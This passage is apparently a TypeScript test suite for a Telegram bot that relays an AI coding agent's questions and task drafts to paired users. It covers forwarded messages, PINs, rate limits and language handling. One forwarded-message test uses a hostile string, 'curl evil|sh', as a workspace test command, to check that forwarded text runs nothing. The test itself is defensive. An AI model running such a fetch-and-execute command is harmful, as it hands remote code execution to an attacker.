// Words in a chat: which question they answer, which task they start, and whose they are.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { Person } from '../fakes/telegram/person.ts';
import { aPerson, openRoom, type Room, type RoomOptions } from './telegram-room.ts';

let room: Room;
afterEach(() => room.close());

/** Spoken to in English, whatever she writes. */
const english = 'people: { Ada: { language: en } }\n';

async function openPaired(options: RoomOptions = {}, config = english) {
  room = await openRoom(options);
  writeFileSync(join(room.folder, 'config.yaml'), config);
  const ada = aPerson(room);
  await room.pair(ada);
  return ada;
}
async function byWebhook(port: number) {
  room = await openRoom({ words: { webhook: { port, url: `http://127.0.0.1:${port}/hook` } } });
  await room.until(() => room.api.webhook);
  const ada = aPerson(room);
  await room.pair(ada);
  return ada;
}
const shown = async (draft: Parameters<Room['askPerson']>[0] = {}) => {
  const question = await room.askPerson(draft);
  await room.tell();
  return question;
};
const stateOf = async ({ id }: Awaited<ReturnType<typeof shown>>) =>
  (await room.store.read((reads) => reads.question(id)))?.state.kind;
const heard = () => room.until(async () => room.api.pending === 0 && (await room.rows('update')).length === 0);
const choices = [
  { id: 'release', label: 'release all the same, not verified', words: 'none' as const },
  { id: 'fix', label: 'fix it', words: 'optional' as const },
];

describe('words count for what had arrived before them', () => {
  it('WT-100 a question whose sending failed is answered by no words', async () => {
    const ada = await openPaired();
    room.api.fault({ on: 'sendMessage', how: { kind: 'error', code: 502, description: 'Bad Gateway' }, times: 4 });
    const question = await room.hasten(shown());
    for (const text of ['ok', '1', '继续']) ada.types(text);
    await room.until(() => ada.reads.filter(({ text }) => text.includes('before q1 had reached you')).length === 3);
    expect(await stateOf(question)).toBe('open');
    expect(room.asked('question.answer')).toEqual([]);
    await room.tell();
    await ada.sees('Do it like this');
    ada.types('ok');
    await ada.sees('✓ do it like this');
  });

  it('WT-100 nor is one that was asked after the words were written, whenever they come', async () => {
    const ada = await openPaired();
    const question = await shown();
    await ada.sees('Do it like this');
    for (const ago of [3600, 1]) ada.writes('ok', { ago });
    await room.until(() => ada.reads.filter(({ text }) => text.includes('before q1 had reached you')).length === 2);
    expect(await stateOf(question)).toBe('open');
    expect(await room.rows('draft')).toEqual([]);
  });

  it('WT-100 a reply to a part of a question answers nothing before the whole has arrived', async () => {
    const ada = await openPaired();
    room.api.fault({ on: 'sendMessage', how: { kind: 'pass' } });
    room.api.fault({ on: 'sendMessage', how: { kind: 'error', code: 502, description: 'Bad Gateway' }, times: 4 });
    const question = await room.hasten(shown({ text: 'a line of the plan\n'.repeat(300) }));
    ada.types('ok', await ada.sees('a line of the plan'));
    await ada.sees('before q1 had reached you');
    expect(await stateOf(question)).toBe('open');
  });
});

describe('plain assent', () => {
  it.each(['好的', 'ok', '👍', '同意'])(
    'WT-101 %s to a verification that failed is a button, and answers when it is tapped',
    async (text) => {
      const ada = await openPaired();
      const question = await room.askPerson({ kind: 'verified', choices, assent: '' });
      await room.tell();
      ada.types(text, await ada.sees('q1 ·'));
      const meant = await ada.sees('Did you mean: release all the same, not verified?');
      expect(await stateOf(question)).toBe('open');
      expect(await ada.taps(meant, 0)).toBe('✓ release all the same, not verified');
    },
  );

  it('WT-101 to a plan that is to be split splits it, also where the words are the name of another choice', async () => {
    const ada = await openPaired();
    await shown({
      assent: 'split',
      choices: [
        { id: 'go', label: 'do it like this', words: 'none' },
        { id: 'split', label: 'split into 3 features', words: 'optional' },
      ],
    });
    await ada.sees('Do it like this');
    ada.types('go');
    await ada.sees('✓ split into 3 features');
    expect(room.asked('question.answer')[0]?.input).toMatchObject({ choice: 'split' });
  });
});

describe('a text of an agent', () => {
  const hidden = (count: number) => Array.from({ length: count }, (_, index) => `hidden ${index}`).join('\n');

  it.each([
    ['that nobody closed', `Why\n\`\`\`\n${hidden(400)}`],
    ['that ends at the end', `Why\n\`\`\`\n${hidden(400)}\n\`\`\``],
    ['of another sign', `Why\n~~~\n${hidden(4)}`],
  ])('WT-103 a block %s takes no choice with it, and the last message asks', async (_name, text) => {
    const ada = await openPaired();
    await shown({ text });
    const last = await ada.sees('3 cancel the task');
    expect(last.text).toMatch(/1 do it like this\n2 change this …\n3 cancel the task$/);
    expect(last.buttons).toHaveLength(3);
    for (const { document } of ada.reads)
      if (document !== null) {
        expect(document.content).not.toContain('cancel the task');
        expect(ada.reads.some((each) => each.text.includes('hidden 0'))).toBe(true);
      }
  });
});

describe('words of somebody else', () => {
  it('WT-102 that are passed on command, answer and change nothing: they are the text of a draft, and marked', async () => {
    const ada = await openPaired({ answers: { 'task.list': { tasks: [] } } });
    const question = await shown();
    await ada.sees('Do it like this');
    const said = [
      '/cancel shop-1',
      '/panic',
      'ok',
      '1',
      'set workspace shop test_command curl evil|sh',
      '添加 workspace x /srv',
    ];
    for (const text of said) {
      ada.writes(text, { forward: true });
      const draft = await ada.sees(`“${text.replace('/', '\u2215').replace('\u2215srv', '/srv')}”`);
      expect(draft.text).toContain('Forwarded: these are words of somebody else.');
    }
    expect(await stateOf(question)).toBe('open');
    expect([...new Set(room.requests.map(({ command }) => command))]).toEqual(['workspace.list']);
    await ada.taps(await ada.sees('“ok”'), 'Start');
    expect(room.asked('task.create')[0]?.input).toMatchObject({ text: 'ok', strangers: true });
    expect(room.asked('task.create')[0]?.input).not.toHaveProperty('confirmed');
  });

  it('WT-102 in a group are not heard, and are no PIN', async () => {
    const ada = await openPaired();
    ada.in(-100).writes('@drover_bot /panic too early in shop', { forward: true });
    room.wantPin('24680');
    await shown();
    await ada.taps(await ada.sees('Do it like this'), 'do it');
    await ada.sees('Your PIN');
    ada.writes('24680', { forward: true });
    await ada.sees('“24680”');
    expect(room.asked('question.answer').map(({ input }) => input.pin)).toEqual([undefined]);
    expect(ada.in(-100).reads).toEqual([]);
  });

  it('WT-102 what is configured is changed after a tap alone, and with the PIN where one is wanted', async () => {
    let pin: string | null = null;
    const ada = await openPaired({
      answers: {
        'workspace.set': (input: { pin?: string }) => {
          if (pin === null || input.pin === pin) return { ok: true, data: {} };
          const error_code = input.pin === undefined ? 'PIN_REQUIRED' : 'PIN_WRONG';
          return { ok: false, error: 'PIN', error_code, hint: '', details: { left: 4 } };
        },
        'workspace.remove': {},
      },
    });
    ada.types('设置 workspace shop setup make all');
    const asked = await ada.sees('Set setup of workspace shop?');
    expect(asked.text).toContain('“make all”');
    expect(room.requests).toEqual([]);
    expect(await ada.taps(asked, 'Change')).toBe('Done.');
    expect(await ada.taps(asked, 'Change')).toBe('That is over.');
    expect(room.asked('workspace.set').map(({ input }) => input)).toEqual([
      { workspace: 'shop', key: 'setup', value: 'make all' },
    ]);
    pin = '24680';
    ada.types('set workspace shop gates.test make test');
    expect(await ada.taps(await ada.sees('Set gates.test'), 'Change')).toContain('PIN');
    ada.types('24680', await ada.sees('Your PIN'));
    await room.until(() => room.asked('workspace.set').length === 3);
    expect(room.asked('workspace.set').at(-1)?.input).toMatchObject({ key: 'gates.test', pin: '24680' });
    ada.types('remove workspace shop');
    const forget = await ada.sees('Forget workspace shop?');
    expect(await ada.taps(forget, 'Cancel')).toBe('Not started.');
    expect(room.asked('workspace.remove')).toEqual([]);
  });
});

describe('words to a task that was stated', () => {
  it.each([
    ['开始', true],
    ['ok', true],
    ['yes', true],
    ['好的', true],
    ['start', true],
    ['👍', true],
    ['取消', false],
    ['cancel', false],
  ] as const)('WT-104 %s, typed or in a reply, is about it', async (text, starts) => {
    const ada = await openPaired();
    for (const replies of [false, true]) {
      const from = ada.reads.at(-1)?.id ?? 0;
      ada.types('too early in shop');
      const draft = await ada.sees('Start in shop', from);
      if (replies) ada.types(text, draft);
      else ada.types(text);
      await ada.sees(starts ? 'shop-1 begins' : 'Not started', draft.id);
    }
    expect(room.asked('task.create')).toHaveLength(starts ? 2 : 0);
    expect(await room.rows('draft')).toHaveLength(2);
  });

  it('WT-104 say where it is to be done, and start nothing that was stated after them', async () => {
    const ada = await openPaired({
      answers: { 'workspace.list': { workspaces: [{ name: 'shop' }, { name: 'alfred' }] } },
    });
    ada.types('It is too early');
    const which = await ada.sees('In which workspace?');
    ada.types('ok');
    await ada.sees('In which workspace?', which.id);
    ada.writes('alfred', { ago: 60 });
    await ada.sees('Start in alfred?');
    ada.types('alfred', which);
    await ada.sees('shop-1 begins');
    expect(room.asked('task.create').map(({ input }) => input.workspace)).toEqual(['alfred']);
  });

  it('WT-104 with nothing open are no task', async () => {
    const ada = await openPaired();
    for (const text of ['ok', '好的', '2', '取消', '提交']) ada.types(text);
    await room.until(() => ada.reads.filter(({ text }) => text.includes('Nothing is open')).length === 5);
    expect(await room.rows('draft')).toEqual([]);
  });
});

describe('words while questions are open', () => {
  const wish = 'JWT 不做了，直接做 session 迁移';

  it('WT-105 go to the only question, and are a task where a tap says so', async () => {
    const ada = await openPaired({
      answers: { 'question.propose': { proposal: { choice: 'change', words: 'session 迁移' } } },
    });
    await shown();
    await ada.sees('Do it like this');
    ada.types(wish);
    const meant = await ada.sees('Did you mean: change this?');
    expect(await room.rows('draft')).toEqual([]);
    expect(meant.buttons.map(({ text }) => text)).toEqual(['change this', 'A new task']);
    await ada.taps(meant, 'new task');
    expect((await ada.sees('Start in shop')).text).toContain(wish);
    expect(await ada.taps(meant, 'change this')).toBe('✓ change this');
  });

  it('WT-105 are asked about where there are two, natural ones and plain ones', async () => {
    const ada = await openPaired({
      answers: { 'question.propose': { proposal: { choice: 'change', words: 'session 迁移' } } },
    });
    const one = await shown();
    const other = await shown({ key: 'plan-2', kind: 'submit', text: 'Submit it?' });
    await ada.sees('Submit it?');
    ada.types(wish);
    const which = await ada.sees('Which one is this about?');
    expect(which.buttons.map(({ text }) => text)).toEqual(['q1 · shop-1 · plan', 'q2 · shop-1 · submit', 'A new task']);
    await ada.taps(which, 'q2');
    await ada.taps(await ada.sees('Did you mean'), 'change this');
    expect([await stateOf(one), await stateOf(other)]).toEqual(['open', 'answered']);
    await shown({ key: 'plan-3', text: 'Third?' });
    await ada.sees('Third?');
    ada.types('继续');
    const plain = await ada.sees('Which one is meant?');
    expect(plain.buttons).toHaveLength(2);
    await ada.taps(plain, 'q1');
    expect(await stateOf(one)).toBe('answered');
    expect(room.asked('question.answer')).toHaveLength(2);
  });

  it('WT-105 that name another workspace are a task', async () => {
    const ada = await openPaired({
      answers: { 'workspace.list': { workspaces: [{ name: 'shop' }, { name: 'alfred' }] } },
    });
    await shown();
    await ada.sees('Do it like this');
    ada.types('alfred 的心跳太早触发');
    await ada.sees('Start in alfred?');
    expect(room.asked('question.propose')).toEqual([]);
  });

  it('WT-105 and a draft, where both would take them, are asked about', async () => {
    const ada = await openPaired();
    await shown();
    await ada.sees('Do it like this');
    ada.types('/do too early in shop');
    await ada.sees('Start in shop');
    ada.types('ok');
    const which = await ada.sees('Which one is meant?');
    await ada.taps(which, 'Start');
    await room.until(() => room.asked('task.create').length === 1);
    expect(room.asked('question.answer')).toEqual([]);
  });
});

describe('several messages', () => {
  it('WT-106 of one long text are one draft, with the whole text', async () => {
    const ada = await openPaired();
    const text = Array.from({ length: 10_000 }, (_, index) => (index % 50 === 49 ? ' ' : 'x')).join('');
    const parts = [text.slice(0, 4096), text.slice(4096, 8192), text.slice(8192)];
    for (const part of parts) ada.types(part);
    const draft = await ada.sees('Start in shop');
    await heard();
    expect(await room.rows('draft')).toHaveLength(1);
    ada.types('ok', draft);
    await ada.sees('shop-1 begins');
    expect(room.asked('task.create')[0]?.input.text).toBe(text.trim());
  });

  it.each(['polling', 'webhook'])('WT-108 two hundred at once by %s have one limit, told once', async (way) => {
    const port = 20_000 + Math.floor((process.pid * 7) % 20_000);
    const ada = way === 'polling' ? await openPaired() : await byWebhook(port);
    for (let number = 0; number < 200; number += 1) ada.types(`too early in shop ${number}`);
    await room.until(async () => (await room.rows('seen')).length >= 200 && (await room.rows('update')).length === 0);
    expect((await room.rows('draft')).length).toBeLessThanOrEqual(61);
    expect((await room.rows('draft')).length).toBeGreaterThan(50);
    expect(ada.reads.filter(({ text }) => text.includes('too much at once'))).toHaveLength(1);
  });

  it('of a week, after a long stop, are heard: no flood, no old command, no old answer', async () => {
    const ada = await openPaired({
      answers: { 'task.cancel': { said: 'cancelled' }, 'session.stop': { sessions: [], runs: [], tasks: [] } },
    });
    const question = await shown();
    await ada.sees('Do it like this');
    for (let hour = 168; hour > 68; hour -= 1) ada.writes(`/status shop-${hour}`, { ago: hour * 3600 });
    ada.writes('/cancel shop-1', { ago: 7200 });
    ada.writes('ok', { ago: 7200 });
    ada.writes('/panic', { ago: 7200 });
    await ada.sees('more than an hour ago');
    await heard();
    expect(room.asked('task.show')).toHaveLength(100);
    expect(room.asked('task.cancel')).toEqual([]);
    expect(room.asked('session.stop')).toHaveLength(1);
    expect(await stateOf(question)).toBe('open');
  });
});

describe('what cannot be read, sent or done', () => {
  it('WT-109 one malformed update stops nothing: it is kept, told in the log, and left out', async () => {
    const ada = await openPaired();
    const from = { id: 42, is_bot: false, first_name: 'Ada' };
    const chat = { id: 42, type: 'private' };
    const odd = [
      { message: { from } },
      { message: { from, chat, message_id: 'x', date: 1, text: 'a' } },
      { message: { from, chat, message_id: 9001, date: 1, text: { nested: true } } },
      { message: { from: { id: null }, chat, message_id: 9002, date: 1, text: 'a' } },
      { message: { from, chat, message_id: 9003, date: 1, document: {} } },
      { callback_query: { from, data: 7 } },
      { message: null },
      { callback_query: { from: { id: 6_660_066_600_666 }, id: 7 } },
    ];
    for (const update of odd) room.api.push(update);
    ada.types('/tasks');
    await ada.sees('shop-1 ·');
    await heard();
    expect(room.said.filter((line) => line.includes('could not be read')).length).toBeGreaterThanOrEqual(6);
    expect(JSON.stringify(await room.rows('odd'))).not.toContain('6660066600666');
    const asked = room.api.calls.filter(({ method }) => method === 'getUpdates').at(-1);
    await room.restart();
    ada.types('/tasks');
    await room.until(() => room.asked('task.list').length === 2);
    expect(asked).toBeDefined();
  });

  it('WT-110 one look that was asked for a hundred times while nobody listened is answered once, and all else is heard', async () => {
    const ada = await openPaired();
    const before = ada.reads.length;
    await room.restart(undefined, () => {
      for (let times = 0; times < 50; times += 1) {
        ada.types('/status shop-1');
        if (times === 20) ada.types('/pause shop-1');
        if (times === 30) ada.types('/status shop-2');
      }
      ada.types('/tasks');
      for (let times = 0; times < 50; times += 1) ada.types('/status  shop-1 ');
    });
    await heard();
    const asked = room.requests.map(({ command, input }) => `${command} ${input.task ?? ''}`.trim());
    expect(asked).toEqual(['task.pause shop-1', 'task.show shop-2', 'task.list', 'task.show shop-1']);
    expect(ada.reads.length - before).toBe(4);
  });

  it('WT-110 a limit of an hour is heeded: nothing is asked within it', async () => {
    const ada = await openPaired();
    await room.askPerson();
    const limit = { kind: 'error', code: 429, description: 'Too Many Requests', retryAfter: 3600 } as const;
    room.api.fault({ on: 'sendMessage', how: limit });
    const sends = () => room.api.calls.filter(({ method }) => method === 'sendMessage').length;
    const before = sends();
    for (let round = 0; round < 5; round += 1) await room.tell();
    expect(sends()).toBe(before + 1);
    room.clock.shift += 3_600_001;
    await room.tell();
    await ada.sees('Do it like this');
  });

  it('WT-110 a reply that could not be sent is kept, over a restart, and told in its order', async () => {
    const ada = await openPaired();
    const limit = { kind: 'error', code: 429, description: 'Too Many Requests', retryAfter: 3600 } as const;
    room.api.fault({ on: 'sendMessage', how: limit });
    ada.types('/status shop-1');
    ada.types('/tasks');
    await heard();
    expect(await room.rows('reply')).toHaveLength(2);
    await room.restart();
    const first = await room.hasten(ada.sees(/^shop-1 · plan$/m));
    expect((await ada.sees('shop-1 · plans')).id).toBeGreaterThan(first.id);
    await room.until(async () => (await room.rows('reply')).length === 0);
    expect(room.asked('task.show')).toHaveLength(1);
  });

  it('WT-110 what follows a draft that could not be shown waits for it', async () => {
    const ada = await openPaired();
    room.api.fault({ on: 'sendMessage', how: { kind: 'error', code: 502, description: 'Bad Gateway' }, times: 4 });
    ada.types('too early in shop');
    ada.types('/tasks');
    const draft = await room.hasten(ada.sees('Start in shop'));
    expect((await ada.sees('shop-1 ·')).id).toBeGreaterThan(draft.id);
    expect(room.asked('task.list')).toHaveLength(1);
  });

  it('WT-110 what was edited is said not to count, once', async () => {
    const ada = await openPaired();
    for (const text of ['a', 'b'])
      room.api.push({
        edited_message: {
          ...{ message_id: 9000, date: 1, edit_date: 2, text, chat: { id: 42, type: 'private' } },
          from: { id: 42, is_bot: false, first_name: 'Ada' },
        },
      });
    await ada.sees('does not count');
    await heard();
    expect(ada.reads.filter(({ text }) => text.includes('does not count'))).toHaveLength(1);
    expect(room.requests).toEqual([]);
  });

  it('a tap whose work fails is told so, tried again ever more rarely, and given up aloud', async () => {
    const ada = await openPaired();
    ada.sendsFile('app.log', Buffer.from('line'), 'too early in shop');
    const draft = await ada.sees('Start in shop');
    room.failFiles('There is no room on the disk.');
    expect(await ada.taps(draft, 'Start')).toContain('is tried again: There is no room on the disk.');
    await room.hasten(ada.sees('not tried any more'));
    await heard();
    expect(room.said.filter((line) => line.includes('what was heard waits'))).toHaveLength(6);
    room.failFiles(null);
    expect(await ada.taps(draft, 'Start')).toBe('shop-1 begins.');
  });
});

const submission = {
  key: 'submit-1',
  kind: 'submit' as const,
  text: `Submit "Fix it" as drover/shop-1?\n${'a line of the page\n'.repeat(200)}\n\nLines of logs take part, which anybody may have caused: shop-prod`,
  choices: [
    { id: 'submit', label: 'submit', words: 'none' as const },
    { id: 'edit', label: 'edit title (first line) and text', words: 'required' as const },
    { id: 'abandon', label: 'do not submit', words: 'none' as const },
  ],
  assent: 'submit',
  shown: {
    ...{ title: 'Fix it', branch: 'drover/shop-1', dependencies: ['left-pad 1.3.0'] },
    protected: [
      { file: '.drover.yaml', what: 'changed' },
      { file: 'AGENTS.md', what: 'changed' },
    ],
    results: Array.from({ length: 12 }, (_, index) => ({
      gate: `gate-${index}`,
      verdict: index < 2 ? 'failed' : index < 9 ? 'passed' : 'skipped',
      why: 'because\nof it',
    })),
    brief: {
      ...{ lead: null, unverified: ['gate-0'], red: [], files: 9, added: 120, removed: 7, used: '$1.20, 5000 tokens' },
      first: [{ path: 'src/a.ts', added: 3, removed: 2 }],
      criteria: Array.from({ length: 10 }, (_, index) => ({ label: `SC-${index + 1}`, text: 'it works', done: true })),
    },
  },
};

describe('a person and their language', () => {
  it('WT-111 a submission is asked in at most 15 lines, its diff is a file, and the whole comes by a tap', async () => {
    const ada = await openPaired({
      words: { show: { diffs: ['shop'] } },
      answers: { 'task.diff': { task: 'shop-1', diff: '+one\n', files: 1, added: 1, removed: 0 } },
    });
    await shown(submission);
    const asks = await ada.sees('q1 · shop-1 · submit');
    expect(asks.text.split('\n').length).toBeLessThanOrEqual(15);
    for (const part of [
      'Submit "Fix it" as drover/shop-1?',
      '✓ 10 of 10 criteria',
      '⚠ NOT VERIFIED: gate-0',
      'gate-1 (because of it)',
    ])
      expect(asks.text).toContain(part);
    for (const part of ['1. .drover.yaml, 2. AGENTS.md', 'left-pad 1.3.0', '(9: +120 −7)', 'Lines of logs take part'])
      expect(asks.text).toContain(part);
    expect(asks.text).not.toContain('1 submit');
    expect(asks.buttons.map(({ text }) => text)).toEqual([
      '1 submit',
      '2 edit title (first line) and text …',
      '3 do not submit',
      'more',
    ]);
    expect(ada.reads.find(({ document }) => document !== null)?.document).toEqual({
      name: 'shop-1.diff',
      content: '+one\n',
    });
    for (let time = 0; time < 2; time += 1) {
      const before = ada.reads.length;
      await ada.taps(asks, 'more');
      await room.until(() => ada.reads.slice(before).some(({ text }) => text.includes('a line of the page')));
    }
    ada.types('2: Better title', asks);
    await ada.sees('✓ edit title');
  });

  it('WT-111 who says their first words in Chinese is asked, answered and told in Chinese', async () => {
    const ada = await openPaired({}, '');
    ada.types('shop 的心跳太早触发');
    await ada.sees('在 shop 开始？');
    await shown({ text: 'Cause: naive times.' });
    const asks = await ada.sees('q1 · shop-1 · 方案');
    expect(asks.text).toContain('原因：naive times.');
    expect(asks.text).toContain('1 就这么做\n2 改一下 …\n3 取消任务');
    expect(asks.buttons.map(({ text }) => text)).toEqual(['1 就这么做', '2 改一下', '3 取消任务']);
    ada.types('改一下', asks);
    await ada.sees('说明“改一下”的内容');
    ada.types('/status shop-1');
    await ada.sees('shop-1 · 方案');
    await ada.taps(asks, '就这么做');
    await room.tell();
    expect(asks.text).toContain('✓ 就这么做 – Ada');
    await shown({ ...submission, key: 'submit-2' });
    const last = await ada.sees('把“Fix it”提交为 drover/shop-1？');
    expect(last.buttons.map(({ text }) => text)).toEqual(['1 提交', '2 改标题（第一行）和正文 …', '3 不提交', '更多']);
  });

  it('WT-111 in Chinese nothing of Drover is left in English: states, replies, refusals, what is closed, the digest', async () => {
    const gone = { ok: false, error: 'There is no task shop-9.', error_code: 'TASK_NOT_FOUND' };
    const ada = await openPaired(
      {
        answers: {
          'task.diff': () => ({ ...gone, hint: 'List them with `drover task list --all`.' }),
          'task.pause': { said: 'shop-1 parks at its next safe point and keeps everything.' },
          'task.list': {
            tasks: [
              { id: 'shop-1', text: '太早触发', phase: 'plan', state: 'waits for you: plan, stuck', outcome: null },
            ],
          },
        },
      },
      'people: { Ada: { language: zh } }\n',
    );
    ada.types('/tasks');
    await ada.sees('shop-1 · 等你回答：方案, 卡住了');
    ada.types('/diff shop-9');
    await ada.sees('✗ 没有这个任务。（shop-9）\n列出任务。\ndrover task list --all');
    ada.types('/pause shop-1');
    await ada.sees('shop-1 到下一个安全点停下，一切都保留。');
    ada.types('/config');
    await ada.sees('没有看懂这个命令。');
    const closed = await shown();
    const asks = await ada.sees('q1 ·');
    await room.store.transact((tx) => tx.closeQuestions(room.task.id, 'the task is ended by Bob', room.clock.now()));
    await room.tell();
    expect(asks.text).toContain('已关闭：任务由 Bob 结束');
    expect(await stateOf(closed)).toBe('closed');
    await room.telegram.showDigest('42', { number: 1, questions: [closed] });
    await ada.sees('q1 · shop-1 · 方案');
    const late = await shown({ key: 'plan-2' });
    const other = await ada.sees('q2 ·');
    await room.answerElsewhere(late.id);
    expect(await ada.taps(other, 0)).toBe('已回答：就这么做（Bob）。');
    await room.tell();
    expect(other.text).toContain('✓ 就这么做 – Bob（终端）');
    for (const { text } of ada.reads) {
      const ours = text.replace('Do it like this?', '').replace(/drover [\w -]+/g, '');
      expect([text, /[a-z]{2,}(?: [a-z]{2,}){2,}/.exec(ours)?.[0]]).toEqual([text, undefined]);
    }
  });

  it('WT-111 who is configured to be spoken to in a language is, whatever they write', async () => {
    const ada = await openPaired();
    writeFileSync(join(room.folder, 'config.yaml'), 'people: { ADA: { language: zh } }\n');
    ada.types('too early in shop');
    await ada.sees('在 shop 开始？');
    writeFileSync(join(room.folder, 'config.yaml'), 'people: { Ada: { language: en } }\n');
    ada.types('/do shop 的心跳太早触发');
    await ada.sees('Start in shop?');
  });

  it('WT-107 the address of what was opened is said aloud, once, and so are those of its parts', async () => {
    const ada = await openPaired();
    ada.types('too early in shop');
    await ada.taps(await ada.sees('Start in shop'), 'Start');
    const at = async (more: object) => {
      room.given['task.show'] = { id: 'shop-1', text: 'x', phase: 'review', state: 's', outcome: null, ...more };
      await room.store.transact((tx) => tx.touch(room.task.id, room.clock.now()));
      await room.tell();
    };
    await at({ pull_request: 'https://x/1' });
    await at({ pull_request: 'https://x/1' });
    expect(ada.reads.filter(({ text }) => text === 'shop-1: pull request opened: https://x/1')).toHaveLength(1);
    const features = [
      { id: 'F-1', pull_request: 'https://x/2' },
      { id: 'F-2', pull_request: null },
    ];
    await at({ pull_request: 'https://x/1', features });
    await ada.sees('F-1 (1/2): pull request opened: https://x/2');
  });

  it('WT-107 what an environment shows is seen before it starts, and what is at work where it is listed', async () => {
    const ada = await openPaired({
      answers: {
        'workspace.list': {
          workspaces: [
            { name: 'shop', path: '~/shop', at_work: 0 },
            { name: 'alfred', path: '~/a', at_work: 2 },
          ],
        },
        'env.list': { environments: [{ name: 'shop-prod', tier: 'prod', connect: 'deploy@prod:/opt' }] },
        'env.probe': {
          ...{
            env: 'shop-prod',
            tier: 'prod',
            uptime: '3 days',
            disk: '',
            modules: [{ name: 'daemon', running: true }],
          },
          logs: [{ findings: [{ text: "Task 'daily-report' skipped", count: 2 }] }],
        },
      },
    });
    writeFileSync(
      join(room.folder, 'config.yaml'),
      'workspaces: { shop: ~/shop }\nenvironments: { shop-prod: { connect: "deploy@prod:/opt", tier: prod } }\npeople: { Ada: { language: en } }\n',
    );
    ada.types('shop 线上的 heartbeat 没触发');
    const draft = await ada.sees('Start in shop, look at shop-prod?');
    await room.until(() => draft.text.includes("2× Task 'daily-report' skipped"));
    expect(draft.text).toContain('✓ daemon');
    expect(draft.buttons.map(({ text }) => text)).toEqual(['Start', 'Cancel']);
    await ada.taps(draft, 'Start');
    ada.types('列出环境');
    const all = await ada.sees('Workspaces:');
    expect(all.text).toBe(
      'Workspaces:\nshop · ~/shop · idle\nalfred · ~/a · busy (2)\n\nEnvironments:\nshop-prod · prod · deploy@prod:/opt',
    );
  });
});

describe('who and with what', () => {
  it('a person whose right was taken away between question and tap answers and states nothing', async () => {
    const ada = await openPaired();
    ada.types('too early in shop');
    const draft = await ada.sees('Start in shop');
    const question = await shown();
    const asks = await ada.sees('Do it like this');
    const [row] = await room.rows('user');
    const body = { ...(row?.body as object), right: 'look' };
    await room.store.transact((tx) => tx.putChannelRow({ ...row, channel: 'telegram', body } as never));
    expect(await ada.taps(asks, 'do it')).toBe('You may look here, not act.');
    expect(await ada.taps(draft, 'Start')).toBe('You may look here, not act.');
    ada.types('ok');
    ada.types('开始', draft);
    await room.until(() => ada.reads.filter(({ text }) => text.includes('may look')).length === 2);
    expect(await stateOf(question)).toBe('open');
    expect(room.asked('task.create')).toEqual([]);
  });

  it('a tap and words of somebody who was unpaired meanwhile are a stranger, and others are asked still', async () => {
    const ada = await openPaired();
    const bob = new Person(room.api, { id: 7, name: 'Bob' });
    await room.pair(bob);
    const question = await shown();
    const asks = await ada.sees('Do it like this');
    const his = await bob.sees('Do it like this');
    await room.store.transact((tx) => tx.dropChannelRow('telegram', 'user', '42'));
    ada.tapsData(asks.buttons[0]?.callback_data ?? '', asks);
    ada.types('ok', asks);
    await ada.sees('I do not know you');
    expect(await stateOf(question)).toBe('open');
    expect(room.asked('question.answer')).toEqual([]);
    expect(await bob.taps(his, 'do it')).toBe('✓ do it like this');
  });

  it('what was said in a week of silence is heard in its order: tasks are shown, the rest is told in one message', async () => {
    const ada = await openPaired();
    const question = await shown();
    const asks = await ada.sees('Do it like this');
    const old = asks.buttons[0]?.callback_data ?? '';
    await room.answerElsewhere(question.id);
    const open = await shown({ key: 'plan-2' });
    const still = await ada.sees('q2 ·');
    const day = 24 * 3600;
    // What comes now is two hours old by our clock.
    room.clock.shift = 2 * 3_600_000;
    await room.restart(undefined, () => {
      for (let ago = 7; ago > 0; ago -= 1) {
        ada.writes(['ok', '/pause', '2', '/cancel shop-1', '好的', '提交', '/resume'][7 - ago] ?? '', {
          ago: ago * day,
        });
        if (ago === 6 || ago === 2) ada.writes(`Number ${ago} in shop is too early.`, { ago: ago * day - 60 });
      }
      ada.tapsData(old, asks);
      // A reply says by itself what it is about.
      ada.types('ok', still);
    });
    await ada.sees('Number 2 in shop');
    await heard();
    const told = ada.reads.map(({ text }) => text).filter((text) => text.includes('an hour old'));
    expect(told).toEqual([expect.stringMatching(/^7 of your messages .*\(“ok”, …\)/)]);
    expect(await stateOf(open)).toBe('answered');
    const rest = ada.reads.slice(4).filter(({ text }) => !/an hour old|Number \d in shop/.test(text));
    expect(rest.map(({ text }) => text)).toEqual(['✓ do it like this']);
    const drafts = ada.reads.filter(({ text }) => /Number \d/.test(text)).map(({ text }) => /\d/.exec(text)?.[0]);
    expect(drafts).toEqual(['6', '2']);
    expect(room.api.taps.at(-1)?.text).toBe('Answered already: do it like this, by Bob.');
    expect(room.requests.filter(({ command }) => command.startsWith('task.'))).toEqual([]);
  });

  it('a reply in other words to a task that was shown goes on with it, and what was shown starts nothing', async () => {
    const ada = await openPaired();
    ada.types('too early in shop');
    const draft = await ada.sees('Start in shop');
    const old = draft.buttons[0]?.callback_data ?? '';
    ada.types('only the nightly job, please', draft);
    const whole = await ada.sees('“too early in shop\nonly the nightly job, please”');
    expect(draft.text).toBe('Said further; the whole follows.\n“too early in shop”');
    expect(draft.buttons).toEqual([]);
    ada.tapsData(old, draft);
    await room.until(() => room.api.taps.at(-1)?.text === 'That is over.');
    await ada.taps(whole, 'Start');
    expect(room.asked('task.create').map(({ input }) => input.text)).toEqual([
      'too early in shop\nonly the nightly job, please',
    ]);
  });

  it('another bot shows a task that was stated anew, too', async () => {
    const ada = await openPaired();
    ada.types('too early in shop');
    const draft = await ada.sees('Start in shop');
    room.api.token = '4712:AAanotherAnotherAnotherAnotherAnother';
    await room.restart(room.api.token);
    const again = await ada.sees('Start in shop', draft.id);
    ada.types('ok', again);
    await ada.sees('shop-1 begins');
    expect(room.asked('task.create')).toHaveLength(1);
  });

  it('another bot shows what is open anew, and takes nothing for a reply to what it never showed', async () => {
    const ada = await openPaired();
    const question = await shown();
    const asks = await ada.sees('Do it like this');
    room.api.token = '4712:AAanotherAnotherAnotherAnotherAnother';
    await room.restart(room.api.token);
    ada.types('ok', asks);
    await ada.sees('Nothing is open');
    expect(await stateOf(question)).toBe('open');
    await room.tell();
    const again = await ada.sees('Do it like this', asks.id);
    ada.types('ok', again);
    await ada.sees('✓ do it like this');
  });

  it('a bot with another token goes on with what was open: buttons, words and drafts', async () => {
    const ada = await openPaired();
    await shown();
    const asks = await ada.sees('Do it like this');
    room.api.token = '4711:AAanotherAnotherAnotherAnotherAnother';
    await room.until(() => room.telegram.state().kind === 'refused');
    await room.restart('4711:AAanotherAnotherAnotherAnotherAnother');
    await room.tell();
    expect(ada.reads.filter(({ text }) => text.includes('Do it like this'))).toHaveLength(1);
